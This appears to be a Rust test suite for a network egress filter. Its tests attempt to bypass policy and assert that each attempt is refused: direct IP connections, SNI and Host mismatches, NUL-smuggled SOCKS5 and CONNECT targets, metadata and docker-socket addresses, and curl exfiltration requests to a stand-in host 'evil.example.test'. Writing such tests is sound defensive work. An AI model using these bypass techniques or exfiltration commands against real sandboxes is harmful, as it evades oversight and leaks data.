//! Attempts to reach somebody without being judged.

use model::egress::EgressRefusal;

use crate::support::{BASE, World};

/// A first message of TLS with this name, as bytes.
pub(crate) fn hello(name: &[u8]) -> Vec<u8> {
    let mut list = vec![0];
    list.extend((name.len() as u16).to_be_bytes());
    list.extend(name);
    hello_with(&[
        (0, with_length(&list)),
        (10, vec![0, 2, 0, 29]),
        (13, vec![0, 2, 4, 3]),
    ])
}

pub(crate) fn with_length(bytes: &[u8]) -> Vec<u8> {
    [&(bytes.len() as u16).to_be_bytes(), bytes].concat()
}

pub(crate) fn hello_with(extensions: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let mut list = Vec::new();
    for (kind, content) in extensions {
        list.extend(kind.to_be_bytes());
        list.extend(with_length(content));
    }
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.extend([0, 0, 2, 0xc0, 0x2b, 1, 0]);
    body.extend(with_length(&list));
    let mut message = vec![1, 0];
    message.extend(with_length(&body));
    let mut record = vec![22, 3, 1];
    record.extend(with_length(&message));
    record
}

/// Whether bytes are a fatal alert of TLS and nothing else.
pub(crate) fn is_alert(bytes: &[u8]) -> bool {
    bytes.len() == 7 && bytes[0] == 0x15
}

#[tokio::test(flavor = "multi_thread")]
async fn net_direct_ipv4_port_443() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let talked = world.raw("203.0.113.9", 443, &hello(b"evil.example.test"));
    assert!(is_alert(&talked.received), "{talked:?}");
    let (code, _, err) = world.run(&[
        "curl",
        "-sS",
        "--noproxy",
        "*",
        "--resolve",
        "evil.example.test:443:203.0.113.9",
        "https://evil.example.test/?d=EXFIL",
    ]);
    assert_ne!(code, 0, "{err}");
    assert_eq!(world.reached("evil.example.test"), (0, 0));
    assert!(world.was_refused(EgressRefusal::AddressNotNamed, "evil.example.test"));
    assert!(world.was_refused(EgressRefusal::AddressNotNamed, "203.0.113.9"));
    world.control();
}

#[tokio::test(flavor = "multi_thread")]
async fn net_direct_ip_allowed_sni_no_pin() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let before = world.reached("api.example.test");
    let talked = world.raw("203.0.113.9", 443, &hello(b"api.example.test"));
    assert!(is_alert(&talked.received), "{talked:?}");
    assert_eq!(world.reached("api.example.test"), before);
    assert_eq!(world.reached("evil.example.test"), (0, 0));
    world.control();
}

#[tokio::test(flavor = "multi_thread")]
async fn net_ipv6_direct_destinations() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let request = b"GET /?d=EXFIL HTTP/1.1\r\nHost: evil.example.test\r\n\r\n";
    for address in [
        "2001:db8::9",
        "64:ff9b::cb00:7109",
        "fd00::1",
        "2002:cb00:7109::1",
        "::ffff:203.0.113.9",
    ] {
        let talked = world.raw(address, 80, request);
        assert_eq!(talked.status(), Some(403), "{address}: {talked:?}");
        let talked = world.raw(address, 443, request);
        assert!(
            talked.status().is_none_or(|status| status == 403),
            "{address}: {talked:?}"
        );
        let talked = world.raw(address, 22, b"x");
        assert!(
            !talked.error.is_empty() && talked.received.is_empty(),
            "{address}"
        );
    }
    assert!(world.was_refused(EgressRefusal::AddressNotNamed, "2001:db8::9"));
    assert_eq!(world.reached("evil.example.test"), (0, 0));
    world.control();
}

#[tokio::test(flavor = "multi_thread")]
async fn net_port_not_named() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let pin = world.pin("api.example.test");
    let before = world.reached("api.example.test");
    let ports = [22, 25, 853, 5432, 8080, 8443, 9418, 65535];
    for port in ports {
        let talked = world.raw(&pin, port, b"EXFIL-0123456789");
        assert!(talked.error.contains("refused"), "{port}: {talked:?}");
    }
    let talked = world.raw(&pin, 53, b"EXFIL-0123456789");
    assert!(talked.received.is_empty(), "{talked:?}");
    world.control();
    assert_eq!(world.reached("api.example.test").0, before.0 + 1);
    // The kernel refused; the packet socket saw it.
    let mut seen = 0;
    for _ in 0..100 {
        let all = world.kept.all();
        let refused = |port: &u16| {
            all.iter().any(|(_, event)| {
                event.port == *port
                    && event.refused == Some(EgressRefusal::PortNotNamed)
                    && event.host == "api.example.test"
            })
        };
        seen = ports.iter().filter(|port| refused(port)).count();
        if seen == ports.len() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(seen, ports.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn net_non_tls_on_443() {
    let policy = r#"[{"host":"tunnel.example.test","protocol":"tls","private":true},
        {"host":"api.example.test","protocol":"https","methods":["GET"],"paths":["/v1/**"],"private":true,"credential":{"secret":"x","variable":"API_TOKEN"}}]"#;
    let Some(world) = World::new(policy) else {
        return;
    };
    world.control();
    let pin = world.pin("tunnel.example.test");
    for bytes in [
        &b"SSH-2.0-OpenSSH_9.2\r\n"[..],
        b"GET / HTTP/1.1\r\nHost: tunnel.example.test\r\n\r\n",
        &[5, 1, 0],
        &[0x80, 0x2e, 1, 0, 2],
        &[0xaa; 100_000],
    ] {
        let talked = world.raw(&pin, 443, bytes);
        assert!(
            talked.received.is_empty() || is_alert(&talked.received),
            "{talked:?}"
        );
    }
    let mut then_other = hello(b"tunnel.example.test");
    then_other.extend(b"GET /admin HTTP/1.1\r\n\r\n");
    world.raw(&pin, 443, &then_other);
    assert_eq!(
        world.servers["tunnel.example.test"].requests(),
        Vec::<String>::new()
    );
    assert!(world.was_refused(EgressRefusal::ProtocolInvalid, "tunnel.example.test"));
    world.control();
}

#[tokio::test(flavor = "multi_thread")]
async fn net_socks5_nul_host() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let before = world.reached("api.example.test");
    let host = b"api.example.test\0.evil.example.test";
    let mut wish = vec![5, 1, 0, 5, 1, 0, 3, host.len() as u8];
    wish.extend(host);
    wish.extend([1, 0xbb]);
    for port in [80, 443, 3128] {
        let talked = world.raw("127.0.0.1", port, &wish);
        assert!(!talked.received.starts_with(&[5, 0]), "{talked:?}");
    }
    assert_eq!(world.reached("api.example.test"), before);
    world.control();
}

#[tokio::test(flavor = "multi_thread")]
async fn net_connect_bad_ports() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let before = world.reached("api.example.test");
    for target in [
        "api.example.test:25",
        "api.example.test:22",
        "api.example.test:0",
        "api.example.test:65536",
        "api.example.test:443x",
        "api.example.test",
        "api.example.test:443:25",
        "[::1]:443",
        "localhost:443",
        "169.254.169.254:80",
        "/var/run/docker.sock",
        "api.example.test\0.evil.example.test:443",
        "203.0.113.9:443",
        "evil.example.test:443",
    ] {
        let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\nEHLO x\r\n");
        let talked = world.raw("127.0.0.1", 3128, request.as_bytes());
        let refused = talked
            .status()
            .is_none_or(|status| (400..500).contains(&status));
        assert!(
            refused && !talked.text().contains(" 200 "),
            "{target}: {talked:?}"
        );
        assert!(talked.statuses().len() <= 1, "{target}: {talked:?}");
    }
    assert_eq!(world.reached("api.example.test"), before);
    assert_eq!(world.reached("evil.example.test"), (0, 0));
    world.control();
}

#[tokio::test(flavor = "multi_thread")]
async fn net_connect_explicit_mismatch() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let before = world.reached("api.example.test");
    let connect = |target: &str, host: &str, then: &[u8]| {
        let head = format!("CONNECT {target} HTTP/1.1\r\nHost: {host}\r\n\r\n");
        world.raw("127.0.0.1", 3128, &[head.as_bytes(), then].concat())
    };
    let talked = connect(
        "api.example.test:443",
        "api.example.test:443",
        &hello(b"evil.example.test"),
    );
    assert!(
        talked.text().starts_with("HTTP/1.1 200")
            && is_alert(&talked.received[talked.received.len() - 7..]),
        "{talked:?}"
    );
    let talked = connect(
        "api.example.test:443",
        "evil.example.test:443",
        &hello(b"api.example.test"),
    );
    assert_eq!(talked.status(), Some(421), "{talked:?}");
    let talked = connect(
        "evil.example.test:443",
        "evil.example.test:443",
        &hello(b"api.example.test"),
    );
    assert_eq!(talked.status(), Some(403), "{talked:?}");
    assert_eq!(world.reached("api.example.test"), before);
    assert_eq!(world.reached("evil.example.test"), (0, 0));
    // What is meant goes through the proxy as well.
    let (code, out, err) = world.run(&[
        "curl",
        "-sS",
        "-x",
        "http://127.0.0.1:3128",
        "https://api.example.test/v1/ping",
    ]);
    assert_eq!((code, out.as_str()), (0, "pong"), "{err}");
    let (_, out, _) = world.run(&[
        "curl",
        "-sS",
        "-x",
        "http://127.0.0.1:3128",
        "https://api.example.test/admin",
    ]);
    assert!(out.contains("path_not_named"), "{out}");
}

#[tokio::test(flavor = "multi_thread")]
async fn net_connect_chain() {
    let Some(world) = World::new(BASE) else {
        return;
    };
    world.control();
    let before = world.reached("api.example.test").0;
    let connect = "CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n";
    assert_eq!(world.api(connect).status(), Some(403));
    let talked = world.raw(&world.pin("api.example.test"), 80, connect.as_bytes());
    assert_eq!(talked.status(), Some(403), "{talked:?}");
    assert_eq!(world.reached("api.example.test").0, before);
    assert_eq!(world.reached("evil.example.test"), (0, 0));
    world.control();
}
